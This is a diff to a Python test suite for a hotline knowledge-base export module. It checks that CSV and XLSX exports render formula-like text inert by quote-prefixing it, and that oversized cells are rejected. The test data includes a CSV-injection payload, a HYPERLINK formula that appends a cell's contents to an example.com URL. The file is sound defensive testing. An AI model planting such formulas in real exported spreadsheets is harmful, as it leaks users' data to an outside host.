@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import tempfile
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
 
@@ -14,9 +17,10 @@ from hypothesis import strategies as st
 
 from hotline_desk.core.errors import DataFormatError, StorageError
 from hotline_desk.core.kb.entry import KBEntry, Region
-from hotline_desk.core.kb.formats import BEIJING
+from hotline_desk.core.kb.formats import BEIJING, looks_like_formula
 from hotline_desk.core.vocabulary import Area, ReviewState
 from hotline_desk.storage.kb_files import (
+    XLSX_MAX_CELL_CHARS,
     kb_file_kind,
     load_kb_file,
     read_kb_file,
@@ -74,6 +78,71 @@ def test_xlsx_text_starting_with_equals_is_not_a_formula(tmp_path: Path) -> None
     assert sheet.title == "知识库"
     cell = sheet.cell(row=3, column=2)
     assert cell.value == "=SUM(A1:A3)" and cell.data_type == "s"
+
+
+HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击查看最新政策")'
+FORMULA_ENTRY = KBEntry(id="-KB-9", title="@提醒 +86", answer=HYPERLINK,
+                        questions=("=1+1",), keywords=("-", "#N/A"), owner_unit="'=单位",
+                        valid_from=date(2024, 1, 1), version=4)
+
+
+def _xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
+    sheet = openpyxl.load_workbook(path).worksheets[0]
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+def test_csv_export_of_a_formula_answer_is_text(tmp_path: Path) -> None:
+    """第三十条 权威准确: "=HYPERLINK(…)" in an answer is no formula in the CSV file
+    (OWASP: a leading "'"), and the file imports back unchanged."""
+    path = tmp_path / "kb.csv"
+    write_kb_file(path, [FORMULA_ENTRY])
+    header, row = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
+    assert not any(looks_like_formula(cell) for cell in row)
+    cells = dict(zip(header, row, strict=True))
+    assert cells["answer"] == "'" + HYPERLINK and cells["id"] == "'-KB-9"
+    assert cells["keywords"] == "'-|#N/A" and cells["owner_unit"] == "''=单位"
+    assert (cells["valid_from"], cells["version"]) == ("2024-01-01", "4")  # not text: as is
+    assert read_kb_file(path) == [FORMULA_ENTRY]
+
+
+def test_xlsx_export_of_a_formula_answer_is_text(tmp_path: Path) -> None:
+    """第三十条 权威准确: in XLSX every cell is a text cell — no formula, no error value —
+    and a formula-like text also has Excel's quote prefix; it imports back unchanged."""
+    path = tmp_path / "kb.xlsx"
+    write_kb_file(path, [FORMULA_ENTRY, KBEntry(id="N", title="#N/A", answer="#DIV/0!")])
+    cells = _xlsx_cells(path)
+    assert {cell.data_type for cell in cells} == {"s"}
+    by_value = {cell.value: cell for cell in cells}
+    assert by_value[HYPERLINK].quotePrefix and by_value["-KB-9"].quotePrefix
+    assert by_value["#N/A"].quotePrefix and not by_value["N"].quotePrefix
+    assert "''=单位" in by_value  # a text starting with "'" keeps it after the import
+    with zipfile.ZipFile(path) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml and 't="e"' not in sheet_xml
+    assert read_kb_file(path)[0] == FORMULA_ENTRY
+    assert read_kb_file(path)[1].title == "#N/A"
+
+
+def test_xlsx_refuses_text_longer_than_a_cell(tmp_path: Path) -> None:
+    """第三十条: Excel holds 32,767 characters per cell; a longer answer is refused, not cut."""
+    long_entry = KBEntry(id="L", title="t", answer="长" * (XLSX_MAX_CELL_CHARS + 1))
+    with pytest.raises(DataFormatError) as info:
+        write_kb_file(tmp_path / "kb.xlsx", [long_entry])
+    assert info.value.problems == [("编号L", "answer", "内容过长（32768个字符），"
+                                                      "超过Excel单元格上限32767个字符")]
+    assert list(tmp_path.iterdir()) == []
+    write_kb_file(tmp_path / "kb.csv", [long_entry])  # CSV has no such limit
+    assert read_kb_file(tmp_path / "kb.csv") == [long_entry]
+
+
+def test_xlsx_lists_every_entry_it_cannot_write(tmp_path: Path) -> None:
+    """第三十条 查漏纠错: every bad entry is named, not only the first."""
+    entries = [KBEntry(id="a", title="t", answer="x\x01"), KBEntry(id="b", title="t", answer="y"),
+               KBEntry(id="c", title="t\x02", answer="z", owner_unit="长" * 40_000)]
+    with pytest.raises(DataFormatError) as info:
+        write_kb_file(tmp_path / "kb.xlsx", entries)
+    assert [(loc, field) for loc, field, _ in info.value.problems] == [
+        ("编号a", "answer"), ("编号c", "title"), ("编号c", "owner_unit")]
 
 
 def test_extension_decides_the_format() -> None:
@@ -253,8 +322,11 @@ def test_read_kb_file_logs_warnings(tmp_path: Path, caplog: pytest.LogCaptureFix
     assert "未知列「备注」" in caplog.text
 
 
-_plain = st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn")), min_size=1,
-                 max_size=12).map(str.strip).filter(bool)
+# Texts often start like a formula (=, +, -, @), or with "'" before one (CSV injection).
+_plain = st.builds(
+    str.__add__, st.sampled_from(["", "", "=", "+", "-", "@", "'", "'=", HYPERLINK, "#N/A"]),
+    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn")), max_size=12),
+).map(str.strip).filter(bool)
 _item = _plain.filter(lambda s: "|" not in s and "｜" not in s)
 
 
@@ -286,6 +358,8 @@ def test_file_round_trip_property(entries: list[KBEntry], suffix: str) -> None:
         path = Path(folder) / f"kb{suffix}"
         write_kb_file(path, entries)
         assert read_kb_file(path) == entries
+        if suffix == ".xlsx":  # 第三十条: never a formula or an error value in the file
+            assert {cell.data_type for cell in _xlsx_cells(path)} == {"s"}
 
 
 def _many(count: int) -> list[KBEntry]:
